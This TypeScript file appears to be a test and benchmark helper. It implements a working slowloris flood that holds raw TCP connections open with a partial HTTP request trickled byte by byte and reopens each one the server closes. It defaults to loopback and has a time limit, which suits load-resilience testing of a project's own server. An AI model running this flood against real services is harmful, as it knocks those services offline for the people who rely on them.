// A slowloris flood for tests and the bench: raw TCP connections that start an HTTP request
// and then trickle one header byte at a time, never finishing it. Each connection the console
// closes is replaced, as an attacker would, until stop() (or maxMs: the loop is bounded).
import { connect, type Socket } from 'node:net';

export interface FloodOptions {
  port: number;
  host?: string;
  /** Source addresses (127.0.0.0/8 is all loopback on Linux), used in turn. */
  sources: string[];
  /** Connections kept open (or being opened) at once. */
  concurrency: number;
  trickleMs?: number;
  /** Stops by itself after this long, whatever happens. */
  maxMs?: number;
}

export interface Flood {
  /** Connections that reached the console (TCP connected). */
  readonly connected: number;
  /** Of those, how many the console closed (we never close one before stop()). */
  readonly closedByConsole: number;
  /** Connections open now. */
  readonly open: number;
  /** Stop replacing connections; resolves once every one of ours is closed (by the console, or by us if `destroy`). */
  stop(opts?: { destroy?: boolean }): Promise<void>;
}

export function slowloris(opts: FloodOptions): Flood {
  const trickleMs = opts.trickleMs ?? 200;
  const live = new Set<Socket>();
  /** Sockets we closed ourselves (at stop), as opposed to the console. */
  const ours = new WeakSet<Socket>();
  let connected = 0;
  let closedByConsole = 0;
  let stopping = false;
  let next = 0;
  const deadline = setTimeout(() => void flood.stop({ destroy: true }), opts.maxMs ?? 60_000);
  deadline.unref();

  const openOne = () => {
    if (stopping) return;
    const localAddress = opts.sources[next++ % opts.sources.length]!;
    const socket = connect({ host: opts.host ?? '127.0.0.1', port: opts.port, localAddress });
    live.add(socket);
    let trickle: NodeJS.Timeout | null = null;
    let didConnect = false;
    socket.on('error', () => {});
    socket.resume(); // read and drop a refusal, so the close is seen at once
    socket.on('connect', () => {
      connected++;
      didConnect = true;
      socket.write('GET / HTTP/1.1\r\nHost: flood\r\nX-Slow: ');
      trickle = setInterval(() => socket.write('x'), trickleMs);
    });
    socket.on('close', () => {
      if (trickle) clearInterval(trickle);
      live.delete(socket);
      if (ours.has(socket)) return;
      if (didConnect) closedByConsole++;
      setTimeout(openOne, 5);
    });
  };
  for (let i = 0; i < opts.concurrency; i++) openOne();

  const flood: Flood = {
    get connected() {
      return connected;
    },
    get closedByConsole() {
      return closedByConsole;
    },
    get open() {
      return live.size;
    },
    async stop({ destroy = true } = {}) {
      stopping = true;
      clearTimeout(deadline);
      if (destroy) {
        for (const s of live) {
          ours.add(s);
          s.destroy();
        }
      }
      while (live.size > 0) await new Promise((r) => setTimeout(r, 10));
    },
  };
  return flood;
}
